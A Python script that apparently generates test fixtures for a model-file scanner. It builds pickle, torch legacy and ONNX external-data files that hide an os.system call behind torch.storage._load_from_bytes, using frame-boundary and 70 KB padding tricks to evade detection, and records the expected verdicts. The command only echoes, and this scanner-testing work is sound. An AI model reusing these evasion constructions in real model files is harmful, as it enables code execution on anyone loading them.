#!/usr/bin/python3
"""Writes samples/speculative-embedded/: pickles whose dangerous part is a payload handed to a
loader (`torch.storage._load_from_bytes(<torch.save zip>)`, what `pickle.dumps(tensor)` writes)
found only on a second reading of the bytes, each of which once scanned `clean` (made with torch 1.13):

- loadbytes-zip.pt: the torch.save zip every other sample hands to `_load_from_bytes` (its data.pkl
  calls os.system).
- nested-legacy-loadbytes.pkl: `_load_from_bytes(<legacy torch file>)` where the legacy file's object
  pickle has a FRAME running past its STOP over the storage-keys pickle: torch.load of a BytesIO (what
  `_load_from_bytes` does) reads the next pickle from the frame's end, a `_load_from_bytes(<zip>)`.
- legacy-frame-boundary.pt: that legacy file itself (torch.load(BytesIO(open(f).read())) runs it).
- onnx-chosen-bin/: an ONNX model whose external data `model.bin` opens with a protocol 0 pickle
  (a 70 KB string, past the sniffer's head, then a call of `_load_from_bytes(<zip>)`): onnx.load
  reads it as tensor data, pickle.load runs it.
- onnx-adapter/: the same under `adapter_model.bin`, a name peft hands to torch.load.
- onnx-chosen-bin-benign/: the same model with plain float data (must stay clean).
Run from the repository root: /usr/bin/python3 samples/generate/speculative_embedded.py
"""
import io
import json
import os
import pickle
import struct

import numpy as np
import onnx
import torch
from onnx import TensorProto, helper, numpy_helper

OUT = os.path.join("samples", "speculative-embedded")
os.makedirs(OUT, exist_ok=True)
CMD = "echo modelgate-sample-speculative-embedded"


class Payload:
    def __reduce__(self):
        return (os.system, (CMD,))


def put(name, data):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


buf = io.BytesIO()
torch.save(Payload(), buf)
ZIP = buf.getvalue()
put("loadbytes-zip.pt", ZIP)


def load_from_bytes(inner, proto2=True):
    """A pickle calling torch.storage._load_from_bytes(inner)."""
    head = b"\x80\x02" if proto2 else b""
    return head + b"ctorch.storage\n_load_from_bytes\nB" + struct.pack("<I", len(inner)) + inner + b"\x85R."


# legacy torch file: five pickles; the object pickle's FRAME runs past its STOP over the keys pickle
p1 = pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
p2 = pickle.dumps(1001, protocol=2)
p3 = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
body = b"}q\x00."
p5 = pickle.dumps([], protocol=2)
p4 = b"\x80\x04\x95" + struct.pack("<Q", len(body) + len(p5)) + body + p5
LEGACY = p1 + p2 + p3 + p4 + load_from_bytes(ZIP)
put("legacy-frame-boundary.pt", LEGACY)
put("nested-legacy-loadbytes.pkl", load_from_bytes(LEGACY))


def onnx_dir(name, location, data):
    n = (len(data) + 3) // 4 + 4
    x = helper.make_tensor_value_info("X", TensorProto.FLOAT, [n])
    y = helper.make_tensor_value_info("Y", TensorProto.FLOAT, [n])
    w = numpy_helper.from_array(np.zeros(n, dtype=np.float32), "W")
    graph = helper.make_graph([helper.make_node("Mul", ["X", "W"], ["Y"])], "scale", [x], [y], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    folder = os.path.join(OUT, name)
    os.makedirs(folder, exist_ok=True)
    if os.path.exists(os.path.join(folder, location)):
        os.remove(os.path.join(folder, location))  # onnx.save_model appends to an existing data file
    onnx.save_model(model, os.path.join(folder, "model.onnx"), save_as_external_data=True,
                    all_tensors_to_one_file=True, location=location, size_threshold=0)
    put(os.path.join(name, location), data + b"\x00" * (n * 4 - len(data)))
    onnx.load(os.path.join(folder, "model.onnx"))  # a valid model with its data


# protocol 0: a BINUNICODE opening (no PROTO) longer than the sniffer's 64 KiB head, POP, then the
# call; zeros after the STOP
PAD = b"A" * 70000
PKL0 = b"X" + struct.pack("<I", len(PAD)) + PAD + b"0" + load_from_bytes(ZIP, proto2=False)
onnx_dir("onnx-chosen-bin", "model.bin", PKL0)
onnx_dir("onnx-adapter", "adapter_model.bin", PKL0)
onnx_dir("onnx-chosen-bin-benign", "model.bin", np.linspace(0.5, 1.5, 64, dtype=np.float32).tobytes())

# what the real loaders do (the command only echoes; each one prints it): torch.load of a BytesIO runs
# the payload as the storage-keys pickle, then raises iterating its result
for load in [
    lambda: torch.load(io.BytesIO(open(os.path.join(OUT, "legacy-frame-boundary.pt"), "rb").read())),
    lambda: pickle.load(open(os.path.join(OUT, "nested-legacy-loadbytes.pkl"), "rb")),
    lambda: pickle.load(open(os.path.join(OUT, "onnx-chosen-bin", "model.bin"), "rb")),
    # torch.load reads the first pickle as the legacy magic number: it runs, then "Invalid magic number"
    lambda: torch.load(os.path.join(OUT, "onnx-adapter", "adapter_model.bin")),
]:
    try:
        load()
    except (TypeError, RuntimeError):
        pass

mal = {"verdict": "malicious", "rules": ["pickle/dangerous-global"], "callee": "posix.system"}
expected = {
    "speculative-embedded/loadbytes-zip.pt": mal,
    "speculative-embedded/nested-legacy-loadbytes.pkl": mal,
    "speculative-embedded/legacy-frame-boundary.pt": {**mal, "rules": ["pickle/dangerous-global", "pytorch/legacy-layout"]},
    "speculative-embedded/onnx-chosen-bin": mal,
    "speculative-embedded/onnx-adapter": mal,
    "speculative-embedded/onnx-chosen-bin-benign": {"verdict": "clean"},
}
with open(os.path.join(OUT, "expected.json"), "w") as f:
    json.dump(expected, f, indent=1)
    f.write("\n")
